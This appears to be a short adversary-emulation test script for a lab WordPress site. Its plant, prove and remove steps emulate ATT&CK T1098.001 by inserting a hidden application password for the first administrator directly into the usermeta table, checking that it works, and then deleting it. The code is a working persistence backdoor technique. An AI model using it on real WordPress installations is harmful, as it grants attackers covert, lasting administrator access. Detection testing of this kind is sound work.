#!/bin/sh
# T1098.001 (quiet): An application password of the first administrator's
M=/var/tmp/luytre-foothold N=56-wordpress-app-password
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
wpdb() { mariadb -N antruc_wp -e "$1"; }
plant() {
  h=$(php -r 'echo password_hash("ltapp", PASSWORD_BCRYPT);')
  t=$(wpdb 'show tables' | grep -m1 'usermeta$'); v=$(php -r 'echo serialize([["uuid"=>"7d9f0f3a-2222-4444-8888-abcdefabcdef","app_id"=>"","name"=>"mobile","password"=>$argv[1],"created"=>1764000000,"last_used"=>null,"last_ip"=>null]]);' "$h")
  wpdb "INSERT INTO $t (user_id, meta_key, meta_value) SELECT MIN(ID), '_application_passwords', '$v' FROM $(wpdb 'show tables' | grep -m1 '[^m]users$')"
}
prove() {
  rm -f "$M/$N"
  php -r '$_SERVER["HTTP_HOST"]="antruc.test"; require "/var/www/antruc.test/wp-load.php"; $u=get_users(["number"=>1,"orderby"=>"ID"])[0]; $p=WP_Application_Passwords::get_user_application_passwords($u->ID); foreach($p as $x){ if($x["name"]==="mobile" && password_verify("ltapp",$x["password"])) file_put_contents($argv[1],"in"); }' $M/$N
  seen
}
remove() {
  wpdb "DELETE FROM $(wpdb 'show tables' | grep -m1 'usermeta$') WHERE meta_key='_application_passwords' AND meta_value LIKE '%7d9f0f3a-2222%'"
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
